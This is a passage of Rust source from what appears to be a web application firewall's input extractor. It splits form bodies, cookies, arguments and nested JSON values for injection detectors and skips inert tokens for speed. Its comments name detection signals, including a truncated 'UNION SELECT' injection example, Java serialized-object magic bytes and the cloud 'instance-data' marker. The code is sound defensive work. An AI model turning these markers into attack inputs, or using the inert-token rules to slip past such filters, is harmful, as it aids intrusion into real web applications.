                return Some(input);
            }
        }
        None
    }
}

// `Prepared::inputs_from` keeps the sources it reads as one bit each in a `u16`.
const _: () = assert!((Source::Request as u16) < 16);

/// The exclusion view the extractor needs: categories silenced per argument/header name.
pub(crate) trait ExclusionLookup {
    fn for_arg(&self, name: &str) -> CategorySet;
    fn for_header(&self, name: &str) -> CategorySet;
    /// True when [`ExclusionLookup::for_arg`] is empty for every name (no exclusion names an
    /// argument): the extractor then asks nothing per argument (a call through the trait
    /// object per value otherwise).
    fn no_arg_exclusions(&self) -> bool {
        false
    }
}

/// Bytes of one value as received: part of the request (a value needing no decoding is then
/// borrowed, not copied), or of a temporary (a multipart part).
#[derive(Clone, Copy)]
enum Raw<'r, 't> {
    Request(&'r [u8]),
    /// Part of the request known to be UTF-8 already (a JSON leaf of a checked body).
    RequestStr(&'r str),
    Temp(&'t [u8]),
}

impl Raw<'_, '_> {
    fn bytes(&self) -> &[u8] {
        match self {
            Raw::Request(b) | Raw::Temp(b) => b,
            Raw::RequestStr(s) => s.as_bytes(),
        }
    }
}

struct Builder<'c, 'x, 'r> {
    cfg: &'c Config,
    excl: &'x dyn ExclusionLookup,
    /// `excl.no_arg_exclusions()`, asked once.
    no_arg_exclusions: bool,
    inputs: Vec<Input<'r>>,
    flags: Flags,
    limit_hits: Vec<LimitKind>,
    arg_count: usize,
    /// The body being split, and where its lowercase copy goes ([`Builder::shared_lower`]).
    lower_body: Option<(&'r [u8], &'r OnceCell<String>)>,
    /// How many documents carried as values enclose the value being pushed
    /// ([`Builder::nested_document`]): 0 for the request's own values.
    nesting: u32,
    /// Leaves of such documents taken so far in this request (bounded by
    /// `limits.body_values`).
    nested_values: usize,
    /// Bytes of such leaves the request may still have inspected: the lengths of the
    /// outermost documents carried as values (nesting 0), added as each is walked.
    /// One level of nesting never reaches it (a document's string leaves, unescaped, are no
    /// longer than the document); a document inside a document inside ... would inspect the
    /// same bytes once per level, and is cut off (reported) where that would exceed it.
    nested_allowance: usize,
    /// Bytes of such leaves taken so far (bounded by `nested_allowance`).
    nested_bytes: usize,
}

/// What [`Builder::undo`] returns to: the builder's state before a body was walked.
struct Mark {
    inputs: usize,
    limit_hits: usize,
    flags: Flags,
    arg_count: usize,
}

impl<'r> Builder<'_, '_, 'r> {
    /// The state to return to if what comes next must be dropped ([`Builder::undo`]).
    fn mark(&self) -> Mark {
        Mark {
            inputs: self.inputs.len(),
            limit_hits: self.limit_hits.len(),
            flags: self.flags,
            arg_count: self.arg_count,
        }
    }

    /// Drops the inputs, limits and flags added since `m`.
    fn undo(&mut self, m: Mark) {
        self.inputs.truncate(m.inputs);
        self.limit_hits.truncate(m.limit_hits);
        self.flags = m.flags;
        self.arg_count = m.arg_count;
    }

    /// The categories exclusions silence for argument `name` ([`ExclusionLookup::for_arg`]).
    fn arg_excluded(&self, name: &str) -> CategorySet {
        if self.no_arg_exclusions {
            CategorySet::EMPTY
        } else {
            self.excl.for_arg(name)
        }
    }

    fn hit(&mut self, kind: LimitKind) {
        if !self.limit_hits.contains(&kind) {
            self.limit_hits.push(kind);
        }
    }

    fn decode(&mut self, raw: &[u8], plus: bool) -> Decoded {
        let d = deep_decode(raw, plus, self.cfg.limits.decode_rounds.max);
        if d.exhausted {
            self.hit(LimitKind::DecodeRounds);
        }
        self.flags.invalid_utf8 |= d.invalid_utf8;
        self.flags.unicode_escape |= d.unicode_escape;
        self.flags.multi_encoded |= d.rounds > 1;
        if d.text.has_char('\0') {
            self.flags.null_byte = true;
        }
        d
    }

    /// [`Builder::decode`]'s text, borrowed from the request when there is nothing to
    /// decode: no `%`, `&` or `\\` (nor `+` in a form), valid UTF-8. Exactly what
    /// [`deep_decode`] returns for such bytes, with the same flags (none but a NUL byte).
    /// With it the [`ByteSet`] of the text when it was borrowed (the one pass over the bytes
    /// that decides whether anything needs decoding also gives the set [`Input::new`] would
    /// compute again).
    fn text_and_bytes(&mut self, raw: Raw<'r, '_>, plus: bool) -> (Text<'r>, Option<ByteSet>) {
        let set = match raw {
            Raw::Request(b) => Some(ByteSet::of(b)),
            Raw::RequestStr(s) => Some(ByteSet::of(s.as_bytes())),
            Raw::Temp(_) => None,
        };
        self.text_of_set(raw, set, plus)
    }

    /// [`Builder::text_and_bytes`] when the set of `raw`'s bytes is known already (`None`
    /// for a temporary, which is decoded).
    fn text_of_set(
        &mut self,
        raw: Raw<'r, '_>,
        set: Option<ByteSet>,
        plus: bool,
    ) -> (Text<'r>, Option<ByteSet>) {
        const DECODES: ByteSet =
            ByteSet::from_ranges(&[(b'%', b'%'), (b'&', b'&'), (b'\\', b'\\')]);
        const DECODES_FORM: ByteSet =
            ByteSet::from_ranges(&[(b'%', b'%'), (b'&', b'&'), (b'\\', b'\\'), (b'+', b'+')]);
        if let (Some(set), Raw::Request(_) | Raw::RequestStr(_)) = (set, raw) {
            let plain = !set.intersects(if plus { &DECODES_FORM } else { &DECODES });
            let utf8 = |raw: Raw<'r, '_>| match raw {
                Raw::Request(b) => std::str::from_utf8(b).ok(),
                Raw::RequestStr(s) => Some(s),
                Raw::Temp(_) => None,
            };
            if let Some(s) = plain.then(|| utf8(raw)).flatten() {
                if set.has(0) {
                    self.flags.null_byte = true;
                }
                return (Text::from(s), Some(set));
            }
        }
        (Text::from(self.decode(raw.bytes(), plus).text), None)
    }

    /// The body as one text value: the fallback when it cannot be parsed as its media type
    /// (malformed or truncated JSON, multipart without a boundary, other media types).
    fn push_whole_body(&mut self, body: &'r [u8]) {
        self.push(
            Source::Body,
            Text::default(),
            Raw::Request(body),
            false,
            CategorySet::EMPTY,
        );
    }

    fn push(
        &mut self,
        source: Source,
        name: Text<'r>,
        raw: Raw<'r, '_>,
        plus: bool,
        excluded: CategorySet,
    ) {
        if let Raw::RequestStr(s) = raw {
            match plain_set(s, plus) {
                Ok(set) => self.push_plain(source, name, s, set, excluded),
                Err(set) if !needs_decoding(&set, plus) => {
                    self.push_capital(source, name, s, set, excluded);
                }
                Err(set) => {
                    let (text, bytes) = self.text_of_set(raw, Some(set), plus);
                    self.push_decoded(source, name, raw, text, bytes, excluded);
                }
            }
            return;
        }
        let (text, bytes) = self.text_and_bytes(raw, plus);
        self.push_decoded(source, name, raw, text, bytes, excluded);
    }

    /// The common value in one step: text of the request (`s`, UTF-8) with nothing to decode
    /// and no capital ([`plain_set`] said so; `set` is its bytes), which is its own raw,
    /// decoded and lowercase form. What [`Builder::text_and_bytes`] and
    /// [`Builder::push_decoded`] make of it, without their general cases (the decoding, the
    /// raw form kept apart, the lowercase copy) or the tuples and options passed between
    /// them: a form's or a JSON body's ~100 values each came through both (test
    /// `plain_values_are_push_decoded`).
    #[inline(always)]
    fn push_plain(
        &mut self,
        source: Source,
        name: Text<'r>,
        s: &'r str,
        set: ByteSet,
        excluded: CategorySet,
    ) {
        self.push_undecoded(source, name, s, set, (Text::from(s), set, false), excluded);
    }

    /// The one-step push shared by [`Builder::push_plain`] and [`Builder::push_capital`]:
    /// `s` is its own raw and decoded form, `set` its byte set; `folded` is its lowercase form,
    /// that form's byte set and whether `s` has a capital (`s`, `set` and `false` when not).
    #[inline(always)]
    fn push_undecoded(
        &mut self,
        source: Source,
        name: Text<'r>,
        s: &'r str,
        set: ByteSet,
        folded: (Text<'r>, ByteSet, bool),
        excluded: CategorySet,
    ) {
        let (lower, bytes, has_upper) = folded;
        if set.has(0) {
            self.flags.null_byte = true;
        }
        // A name within the limit (nearly all) is the place's name as it is: no call.
        let location = if name.len() <= Location::MAX_NAME {
            Place { source, name }
        } else {
            Place::new(source, name)
        };
        let shape = Input::shape_of(&location, s, s, &bytes);
        self.inputs.push(Input {
            location,
            raw: Text::from(s),
            value: Text::from(s),
            lower,
            excluded,
            bytes,
            shape,
            has_upper,
            leaf: (0, 0),
        });
        if matches!(source, Source::Arg | Source::Cookie) && (set.has(b'{') || set.has(b'[')) {
            self.nested_of_last(source, excluded);
        }
    }

    /// Adds a value decoded already (`text` is `raw` after [`Builder::text_and_bytes`]).
    fn push_decoded(
        &mut self,
        source: Source,
        name: Text<'r>,
        raw: Raw<'r, '_>,
        text: Text<'r>,
        text_bytes: Option<ByteSet>,
        excluded: CategorySet,
    ) {
        // Undecoded values (most) are their own raw form: no copy, no second conversion. A
        // borrowed text is the raw bytes themselves (same place): no comparison needed.
        let (t, r) = (text.as_bytes(), raw.bytes());
        let raw = if (t.as_ptr() == r.as_ptr() && t.len() == r.len()) || t == r {
            text.clone()
        } else {
            match raw {
                Raw::Request(b) => Text(String::from_utf8_lossy(b)),
                Raw::RequestStr(s) => Text::from(s),
                Raw::Temp(b) => Text::from(String::from_utf8_lossy(b).into_owned()),
            }
        };
        let location = Place::new(source, name);
        // What `Input::new` computes, built here and written once into the list (through
        // `Input::new` the ~100-byte input was moved two or three times per value).
        let value_bytes = match text_bytes {
            Some(bytes) => bytes,
            None => ByteSet::of(text.as_bytes()),
        };
        let has_upper = value_bytes.has_ascii_upper();
        let (lower, bytes) = if has_upper {
            // A slice of the body's shared lowercase copy when the text is borrowed from it.
            let shared = text_bytes.and_then(|_| self.shared_lower(&text));
            (
                shared.unwrap_or_else(|| Text::from(text.ascii_lower())),
                value_bytes.ascii_lowercased(),
            )
        } else {
            (text.clone(), value_bytes)
        };
        let shape = Input::shape_of(&location, &raw, &text, &bytes);
        self.inputs.push(Input {
            location,
            raw,
            value: text,
            lower,
            excluded,
            bytes,
            shape,
            has_upper,
            leaf: (0, 0),
        });
        // Most values are no document: the value's byte set, computed already, holds no `{`
        // nor `[` (decoding never removes one the raw form has, so neither form is one).
        let opens = |i: &Input<'_>| i.bytes.has(b'{') || i.bytes.has(b'[');
        if matches!(source, Source::Arg | Source::Cookie) && self.inputs.last().is_some_and(opens) {
            self.nested_of_last(source, excluded);
        }
    }

    /// [`Builder::nested_document`] for the value just pushed, when it (or its raw form) is
    /// written as a JSON document.
    #[cold]
    #[inline(never)]
    fn nested_of_last(&mut self, source: Source, excluded: CategorySet) {
        let Some(last) = self.inputs.last() else {
            return;
        };
        let value_doc = is_document(last.value.as_bytes());
        let raw_doc = is_document(last.raw.as_bytes());
        if !(value_doc || raw_doc) {
            return;
        }
        // The document as the carrier delivers it: the decoded value (a percent-encoded form
        // field), or else the value as received when decoding broke it (a JSON member's
        // string, unescaped by the body walk, whose inner `\"` the value's escape decoding
        // turned into bare quotes).
        let name = last.location.name.clone();
        let value = value_doc.then(|| last.value.clone());
        let raw = (raw_doc && last.raw != *last.value).then(|| last.raw.clone());
        // The value's own offsets are the document's when the value is the document.
        let carrier = self.inputs.len() - 1;
        let walked = value.is_some_and(|v| {
            self.nested_document(source, name.clone(), v, excluded, Some(carrier))
        });
        if let (false, Some(raw)) = (walked, raw) {
            self.nested_document(source, name, raw, excluded, None);
        }
    }

    /// A value that is itself a JSON document (`data={"name":"..."}`, a JSON string member
    /// holding an encoded document, a multipart part of type `application/json`, a cookie
    /// holding JSON): the application parses it and reads its leaves, so each string leaf is
    /// inspected as a value of its own too (under the carrying value's name and exclusions),
    /// as the body's own leaves are. Inside the document its own quotes delimit the strings:
    /// `{"name":"1 UNION SELECT ..."}` holds no quote break-out, the leaf `1 UNION SELECT ...`
    /// is the statement. The whole value is still inspected as text (it was pushed already).
    ///
    /// Bounded like the body: depth `limits.json_depth` (deeper values not visited: reported),
    /// leaves of such documents at most `limits.body_values` per request (reported past it),
    /// and a document inside a document inside ... counts as one more decoding round each
    /// (past `limits.decode_rounds` levels: reported, not walked). The string leaves of all
    /// such documents together are at most as long as the outermost values carrying them
    /// (`nested_allowance`): each level would otherwise inspect every byte of the body
    /// again (five levels, five times the body); past it the walk stops and
    /// `DecodeRounds` is reported (a document in a document is one more decoding round, and
    /// the allowance is what those rounds may decode). One level never reaches it, so what
    /// the application reads of an ordinary `data={...}` is inspected in full. A value that
    /// is not well-formed JSON adds nothing (what the walk saw is dropped).
    ///
    /// The longest leaf longer than a detector window whose value is, verbatim, a slice of
    /// the document is recorded in [`Input::leaf`] of `carrier` (the index of the input whose
    /// value `doc` is), when given: the carrier's windows inside it are not read twice.
    ///
    /// Returns whether `doc` was walked (well-formed, within the rounds).
    fn nested_document(
        &mut self,
        source: Source,
        name: Text<'r>,
        doc: Text<'r>,
        excluded: CategorySet,
        carrier: Option<usize>,
    ) -> bool {
        if self.nesting >= self.cfg.limits.decode_rounds.max {
            self.hit(LimitKind::DecodeRounds);
            return true;
        }
        let mark = self.mark();
        let (allowance, taken) = (self.nested_allowance, self.nested_bytes);
        if self.nesting == 0 {
            self.nested_allowance = allowance.saturating_add(doc.len());
        }
        let max_values = self.cfg.limits.body_values.max as usize;
        let depth = self.cfg.limits.json_depth.max;
        let borrowed: Option<&'r str> = match &doc.0 {
            Cow::Borrowed(s) => Some(s),
            Cow::Owned(_) => None,
        };
        self.nesting += 1;
        let mut visit = |item: json::Item<'_, '_>| {
            let Some(text) = item.text.filter(|t| !item.is_key && !is_number(t)) else {
                return true;
            };
            self.nested_values += 1;
            if self.nested_values > max_values {
                self.hit(LimitKind::BodyValues);
                return false;
            }
            let taken = self.nested_bytes.saturating_add(text.len());
            if taken > self.nested_allowance {
                self.hit(LimitKind::DecodeRounds);
                return false;
            }
            self.nested_bytes = taken;
            // A leaf without escapes is a slice of the document: borrowed when it is.
            let raw = match borrowed
                .and_then(|d| within(d.as_bytes(), text.as_bytes()).map(|r| (d, r)))
            {
                Some((d, (a, e))) => d
                    .get(a..e)
                    .map_or(Raw::Temp(text.as_bytes()), Raw::RequestStr),
                None => Raw::Temp(text.as_bytes()),
            };
            let at = self.inputs.len();
            self.push(source, name.clone(), raw, false, excluded);
            if let Some(c) = carrier.filter(|_| text.len() > WINDOW) {
                self.note_leaf(c, doc.as_bytes(), text, at);
            }
            true
        };
        let walked = json::walk_utf8(&doc, depth, &mut visit);
        self.nesting -= 1;
        match walked {
            Ok(true) => self.hit(LimitKind::JsonDepth),
            Ok(false) => {}
            Err(_) => {
                self.undo(mark);
                (self.nested_allowance, self.nested_bytes) = (allowance, taken);
                if let Some(c) = carrier.and_then(|c| self.inputs.get_mut(c)) {
                    c.leaf = (0, 0);
                }
                return false;
            }
        }
        true
    }

    /// Records the leaf `text` of the document `doc` (the value of `inputs[carrier]`) in
    /// [`Input::leaf`] of the carrier when it is a slice of `doc` (no escapes), the input
    /// pushed for it (`inputs[leaf]`) holds the same bytes (nothing decoded), and it is the
    /// carrier's longest such leaf.
    #[cold]
    #[inline(never)]
    fn note_leaf(&mut self, carrier: usize, doc: &[u8], text: &str, leaf: usize) {
        let Some((start, end)) = within(doc, text.as_bytes()) else {
            return;
        };
        let same = self.inputs.get(leaf).is_some_and(|i| {
            crate::detect::same_bytes(i.value.as_bytes(), doc.get(start..end).unwrap_or_default())
        });
        if let Some(c) = self
            .inputs
            .get_mut(carrier)
            .filter(|c| same && c.leaf.1 - c.leaf.0 < end - start)
        {
            c.leaf = (start, end);
        }
    }

    /// The lowercase form of `text` (whose bytes are `bytes`) as a slice of the body's
    /// lowercase copy, when `text` has a capital and is a slice of the body being split: the
    /// body is lowercased once, on the first such value, instead of one copy per value
    /// (ASCII lowercasing keeps every byte offset, so the slice at the value's offsets is the
    /// value lowercased). Asked only of a value with a capital. `None`: the value is not part
    /// of the body (decoded), or the body is not UTF-8; the value is then lowercased alone.
    fn shared_lower(&self, text: &Text<'r>) -> Option<Text<'r>> {
        let (body, cell) = self.lower_body?;
        let (a, e) = within(body, text.as_bytes())?;
        let lowered =
            cell.get_or_init(|| String::from_utf8(ascii_lowercase(body)).unwrap_or_default());
        lowered.get(a..e).map(Text::from)
    }

    /// [`Builder::push_plain`] for text of the request with a capital (and nothing to decode):
    /// its lowercase form a slice of the body's shared lowercase copy when it is a slice of
    /// the body ([`Builder::shared_lower`]), else its own copy; what
    /// [`Builder::push_decoded`] makes of it (test `plain_values_are_push_decoded`). Out of
    /// line: kept apart from the values without a capital (most).
    #[inline(never)]
    fn push_capital(
        &mut self,
        source: Source,
        name: Text<'r>,
        s: &'r str,
        set: ByteSet,
        excluded: CategorySet,
    ) {
        let lower = self.shared_lower(&Text::from(s));
        let lower = lower.unwrap_or_else(|| Text::from(s.ascii_lower()));
        let bytes = set.ascii_lowercased();
        self.push_undecoded(source, name, s, set, (lower, bytes, true), excluded);
    }

    /// Adds one argument (name and value) unless the `args` limit is reached.
    fn arg(&mut self, name_raw: Raw<'r, '_>, value_raw: Raw<'r, '_>, plus: bool) {
        self.arg_count += 1;
        if self.arg_count > self.cfg.limits.args.max as usize {
            self.hit(LimitKind::ArgCount);
            return;
        }
        // At paranoia 1 an inert name or value is not pushed (see `inert_token`,
        // `inert_leaf`); the value keeps its name as its place.
        let inert = self.cfg.paranoia_level == 1;
        let value_left = value_raw.bytes().is_empty()
            || inert && matches!(value_raw, Raw::RequestStr(v) if inert_leaf(v));
        let name_left = inert && matches!(name_raw, Raw::RequestStr(n) if inert_name(n));
        if name_left && value_left {
            return;
        }
        // The name is decoded once: it is both the location of its value and an input (an
        // inert one is plain, and only the location).
        let plain = match name_raw {
            Raw::RequestStr(s) if name_left => Some((s, Ok(ByteSet::default()))),
            Raw::RequestStr(s) => Some((s, plain_set(s, plus))),
            _ => None,
        };
        let (name, excluded) = match plain {
            Some((s, Ok(set))) => {
                let excluded = self.arg_excluded(s);
                if !name_left {
                    self.push_plain(Source::ArgName, Text::from(s), s, set, excluded);
                }
                (Text::from(s), excluded)
            }
            other => {
                let (name, bytes) = match other {
                    Some((_, Err(set))) => self.text_of_set(name_raw, Some(set), plus),
                    _ => self.text_and_bytes(name_raw, plus),
                };
                let excluded = self.arg_excluded(&name);
                self.push_decoded(
                    Source::ArgName,
                    name.clone(),
                    name_raw,
                    name.clone(),
                    bytes,
                    excluded,
                );
                (name, excluded)
            }
        };
        if !value_left {
            self.push(Source::Arg, name, value_raw, plus, excluded);
        }
    }

    /// Splits an urlencoded string into arguments (`&`-separated; `;` is not a separator).
    /// `declared`: the Content-Type (or the query string) says this is a form. A body that
    /// nobody declared one is still read as a form for the injection detectors, but no
    /// application parses it so: a piece without `=` is text, inspected as a value, not as
    /// the name of an empty field (`requests.post(url, data="a line\n")` sends no
    /// Content-Type; its newline ends no header-injecting name), and a `%` in it (`survival is
    /// unlikely (~2% if ...)`) is text, not a bad escape.
    fn form(&mut self, data: &'r [u8], declared: bool) {
        // Room for every pair's name and value (within the `args` limit) at once: growing
        // the inputs one doubling at a time copies them all again each time.
        // One pass over the string for the three questions asked of all of it.
        let scan = FormScan::of(data);
        let pairs = scan.amps + 1;
        let room = pairs.min(self.cfg.limits.args.max as usize + 1);
        self.inputs.reserve(2 * room);
        // Asked of the whole string once instead of each name and value: an escape's bytes
        // (`%XX`, `%uXXXX`) are never `&` or `=`, so an escape is valid in its piece exactly
        // when it is valid here (and `%` in an empty pair does not occur).
        let percent_bad = declared && scan.percent && has_bad_percent(data);
        // UTF-8 checked once for the whole string: its pieces, cut at ASCII `&` and `=`, are
        // then text without validating each again (cut from it by their offsets).
        let text = std::str::from_utf8(data).ok();
        let raw = |(a, e): (usize, usize)| match text.and_then(|t| t.get(a..e)) {
            Some(s) => Raw::RequestStr(s),
            None => Raw::Request(data.get(a..e).unwrap_or_default()),
        };
        for (name, value) in pairs_of(data) {
            let (name, value) = if !declared && name.1 == value.0 {
                ((name.0, name.0), name)
            } else {
                (name, value)
            };
            self.arg(raw(name), raw(value), true);
        }
        self.flags.invalid_percent |= percent_bad;
    }

    fn cookies(&mut self, header: &'r str) {
        let inert = self.cfg.paranoia_level == 1;
        for c in header.split_char(';') {
            let c = trim_unicode(c);
            if c.is_empty() {
                continue;
            }
            let (name, value) = c.split_once_char('=').unwrap_or((c, ""));
            // A pair of inert tokens can fire nothing at paranoia 1: not pushed (test
            // `inert_tokens_fire_nothing`).
            if inert && inert_token(name) && (value.is_empty() || inert_token(value)) {
                continue;
            }
            let excluded = self.arg_excluded(name);
            // Parts of a header value: UTF-8 already, nothing to validate again.
            let (n, v) = (Raw::RequestStr(name), Raw::RequestStr(value));
            self.push(Source::CookieName, Text::from(name), n, false, excluded);
            if !value.is_empty() {
                self.push(Source::Cookie, Text::from(name), v, false, excluded);
            }
        }
    }
}

/// The set of `s`'s bytes, `Ok` when `s` is a plain value ([`Builder::push_plain`]): nothing
/// that [`Builder::text_and_bytes`] decodes (`%`, `&`, `\\`, and `+` in a form) and no capital
/// (its lowercase form is itself). Two word tests on the set.
#[inline(always)]
fn plain_set(s: &str, plus: bool) -> Result<ByteSet, ByteSet> {
    let set = ByteSet::of(s.as_bytes());
    let [w0, w1, _, _] = set.0;
    // `%`, `&` (and `+`) are in the first word, `\\` and the capitals in the second.
    let decodes0 = (1u64 << b'%') | (1 << b'&') | if plus { 1 << b'+' } else { 0 };
    let decodes1 = (1u64 << (b'\\' - 64)) | ByteSet::ASCII_UPPERCASE.0[1];
    if w0 & decodes0 != 0 || w1 & decodes1 != 0 {
        Err(set)
    } else {
        Ok(set)
    }
}

/// Whether `s` is a token no detector can fire on at paranoia 1, read whole as a cookie
/// name, a cookie value, a header value (not a file name) or an argument's value (under any
/// name; an argument's name also asks [`inert_name`]): 1-64 bytes of `a-z`, `0-9` and `-`
/// without `--` or `0x` (hex-spelled traversal, which lfi reads in a word), so of the gates'
/// `Word` shape ([`crate::detect::gate`]), and none of what the detectors still read in such
/// a word: a command name (rce), the letters of a catalog name (`s` with `y` or `m`: sqli),
/// the bytes of `rO0AB` and of `aced0005` (java's serialized objects, as its gate asks), the
/// letters of `instance-data` (generic) or a base64 node-serialize marker (generic);
/// request-level rules need `=`, control bytes or a `User-Agent`'s words. Such a value is
/// not pushed: its byte set, input and gate mask cost ~1,000-1,400 Wasm instructions, and a
/// session cookie's name and value are two of them on most requests, the words and numbers
/// of a form or JSON body most of its values. Proved over generated tokens against every
/// detector, ungated (test `inert_tokens_fire_nothing`). Out of line: one copy for its
/// callers.
#[inline(never)]
fn inert_token(s: &str) -> bool {
    let b = s.as_bytes();
    if b.is_empty() || b.len() > 64 {
        return false;
    }
    let (mut letters, mut prev) = (0u32, 0u8);
    for &c in b {
        match c {
            b'x' if prev == b'0' => return false,
            b'a'..=b'z' => letters |= 1 << (c - b'a'),
            // `0` and `5` as bits 26 and 27 (for `aced0005`).
            b'0' => letters |= 1 << 26,
            b'5' => letters |= 1 << 27,
            b'1'..=b'4' | b'6'..=b'9' => {}
            b'-' if prev != b'-' => {}
            _ => return false,
        }
        prev = c;
    }
    // Each letter's bit in `letters`.
    const fn bits(w: &[u8]) -> u32 {
        let (mut m, mut i) = (0, 0);
        while i < w.len() {
            m |= 1 << (w[i] - b'a');
            i += 1;
        }
        m
    }
    let has = |m: u32| letters & m == m;
    // What the paranoia-1 gates still read in such a word.
    let read = (has(bits(b"s")) && letters & bits(b"ym") != 0)
        || has(bits(b"instance"))
        || has(bits(b"aced") | 3 << 26)
        || has(bits(b"roab"))
        || crate::detect::rce::may_name_word(s)
        || (b.len() >= 12 && crate::detect::generic::base64_marker(s));
    !read
}

/// Whether an argument's name `n` (as sent) can fire nothing at paranoia 1: an
/// [`inert_token`] that cannot name a session id (session's rules read an argument's name;
/// [`crate::detect::session::may_name_session`] says which tokens may). Proved with the
/// values (tests `inert_tokens_fire_nothing`, `inert_numbers_fire_nothing`).
fn inert_name(n: &str) -> bool {
    !crate::detect::session::may_name_session(n) && inert_token(n)
}

/// Whether an argument's value `s` (as sent: nothing decoded from it) can fire nothing at
/// paranoia 1, under any name: an [`inert_token`] (`12`, `-1`, `1e5`, `sports`), or a
/// decimal fraction (`10.99`, `-0.5`; up to 32 bytes), which no detector reads anything in.
/// The rules that read an argument's name with its value (lfi's file parameters, rfi's
/// include parameters, protocol's `_method` at paranoia 2, ...) need bytes neither has (`.`
/// with `/`, `:`, letters). Proved over generated tokens and numbers under the names those rules read and
/// against every detector, ungated (tests `inert_tokens_fire_nothing`,
/// `inert_numbers_fire_nothing`). The numbers and words of a JSON or form body (`qty`,
/// `10.99`, `sports`) were most of its values, each ~1,000 Wasm instructions pushed.
#[inline(never)]
fn inert_leaf(s: &str) -> bool {
    inert_token(s) || decimal(s)
}

/// Whether `s` is a decimal fraction as JSON writes one (`10.99`, `-0.5`: digits, one `.`,
/// digits), of at most 32 bytes. Integers and `1e5` are tokens already.
fn decimal(s: &str) -> bool {
    let b = s.as_bytes();
    let b = b.strip_prefix(b"-").unwrap_or(b);
    // The offset of the one `.` (never the first byte), 0 while none.
    let mut dot = 0;
    for (i, &c) in b.iter().enumerate() {
        if c == b'.' && dot == 0 && i > 0 {
            dot = i;
        } else if !c.is_ascii_digit() {
            return false;
        }
    }
    b.len() <= 32 && dot > 0 && dot + 1 < b.len()
}

/// Whether the path `raw` (as sent) is a URL path of plain segments that only lfi and the
/// request-level detectors can fire on at paranoia 1: `/` and then only `a-z`, `0-9`, `-`
/// and `/` (so nothing to decode), no `//`, no letter right after a digit (`0xselect`, `1union`:
/// a number glued to a keyword is SQL), no `aced` (a serialized Java object's magic) and no
/// word SQL reads as more than a name (`/shutdown`: `sqli::lexer::inert_path`). No
/// injection rule of the other families fits in one (test `plain_paths_fire_only_lfi`), so
/// their gates leave it out ([`crate::detect::gate::Shape::PlainPath`]): the path of most
/// requests was read by every detector (its `/` made it of no gated shape).
fn plain_path(raw: &str) -> bool {
    let b = raw.as_bytes();
    if b.first() != Some(&b'/') {
        return false;
    }
    let mut prev = 0u8;
    for &c in b {
        let plain = match c {
            b'a'..=b'z' => !prev.is_ascii_digit(),
            b'0'..=b'9' | b'-' => true,
            b'/' => prev != b'/',
            _ => false,
        };
        if !plain {
            return false;
        }
        prev = c;
    }
    crate::detect::find_bytes(b, b"aced", 0).is_none()
        && crate::detect::sqli::lexer::inert_path(raw)
}

/// Whether text whose bytes are `set` holds what [`Builder::text_and_bytes`] decodes (`%`,
/// `&`, `\\`, and `+` in a form).
fn needs_decoding(set: &ByteSet, plus: bool) -> bool {
    let decodes0 = (1u64 << b'%') | (1 << b'&') | if plus { 1 << b'+' } else { 0 };
    set.0[0] & decodes0 != 0 || set.has(b'\\')
}

/// `s.trim()`, with its two ends asked first: a piece that opens and closes with an ASCII
/// byte other than whitespace (nearly every cookie, a `Host`) is its own trim, and std's Unicode trim
/// decodes a char at each end through a table lookup.
pub(crate) fn trim_unicode(s: &str) -> &str {
    // The ASCII bytes `char::is_whitespace` accepts.
    let plain = |b: Option<&u8>| b.is_some_and(|&b| b < 0x80 && !matches!(b, 9..=13 | b' '));
    if plain(s.as_bytes().first()) && plain(s.as_bytes().last()) {
        s
    } else {
        s.trim()
    }
}

/// A piece of a string: its start and end offsets.
type Span = (usize, usize);

/// The `(name, value)` pairs of an urlencoded string, as ranges of it: its non-empty
/// `&`-separated pieces, each cut at its first `=` (no `=`: the whole piece is the name, the
/// value empty, at the piece's end). Each separator is found eight bytes per step
/// ([`crate::detect::find_byte`]) instead of a byte loop per piece (a form body is read here
/// once, by every request that has one); offsets, not slices, so that the caller cuts each
/// piece once, as text when the string is UTF-8.
fn pairs_of(data: &[u8]) -> impl Iterator<Item = (Span, Span)> + '_ {
    let mut at = 0usize;
    std::iter::from_fn(move || loop {
        let rest = data.get(at..)?;
        let start = at;
        let end = crate::detect::find_byte(rest, b'&').map_or(data.len(), |p| start + p);
        at = end + 1;
        if end == start {
            continue;
        }
        let pair = data.get(start..end).unwrap_or_default();
        return Some(match crate::detect::find_byte(pair, b'=') {
            Some(eq) => ((start, start + eq), (start + eq + 1, end)),
            None => ((start, end), (end, end)),
        });
    })
}

/// `b.ascii_lower()`, eight bytes per step (SWAR): a copy, then each word's `A-Z`
/// bytes get their `0x20` bit (the tests compare the byte `b >= 'A'` and `b > 'Z'` on the
/// low seven bits, within each byte, and leave bytes from 0x80 alone).
pub(crate) fn ascii_lowercase(b: &[u8]) -> Vec<u8> {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    const LOW7: u64 = 0x7f7f_7f7f_7f7f_7f7f;
    let mut out = b.to_vec();
    let mut chunks = out.chunks_exact_mut(8);
    for chunk in chunks.by_ref() {
        let mut w = [0u8; 8];
        w.copy_from_slice(chunk);
        let x = u64::from_le_bytes(w);
        let low = x & LOW7;
        // High bit set where the low seven bits are >= 'A', and where they are > 'Z'.
        let ge_a = low.wrapping_add(LO.wrapping_mul(0x80 - u64::from(b'A')));
        let gt_z = low.wrapping_add(LO.wrapping_mul(0x80 - u64::from(b'Z') - 1));
        let upper = ge_a & !gt_z & !x & HI;
        chunk.copy_from_slice(&(x | (upper >> 2)).to_le_bytes());
    }
    chunks.into_remainder().make_ascii_lowercase();
    out
}

/// What [`Builder::form`] asks of the whole urlencoded string, in one pass of eight bytes
/// per step (SWAR) instead of two (the count of `&`, then a search for `%`).
struct FormScan {
    /// How many `&`.
    amps: usize,
    /// Whether a `%` occurs.
    percent: bool,
}

impl FormScan {
    fn of(b: &[u8]) -> FormScan {
        const LO: u64 = 0x0101_0101_0101_0101;
        const LOW7: u64 = 0x7f7f_7f7f_7f7f_7f7f;
        let amp = LO.wrapping_mul(u64::from(b'&'));
        let pct = LO.wrapping_mul(u64::from(b'%'));
        // The high bit of each zero byte of `x`, exactly (no borrow between bytes).
        let zero = |x: u64| !(((x & LOW7).wrapping_add(LOW7)) | x | LOW7);
        let mut chunks = b.chunks_exact(8);
        let (mut amps, mut pcts) = (0usize, 0u64);
        for chunk in chunks.by_ref() {
            let mut w = [0u8; 8];
            w.copy_from_slice(chunk);
            let x = u64::from_le_bytes(w);
            amps += zero(x ^ amp).count_ones() as usize;
            pcts |= zero(x ^ pct);
        }
        let rest = chunks.remainder();
        FormScan {
            amps: amps + rest.iter().filter(|&&c| c == b'&').count(),
            percent: pcts != 0 || rest.contains(&b'%'),
        }
    }
}

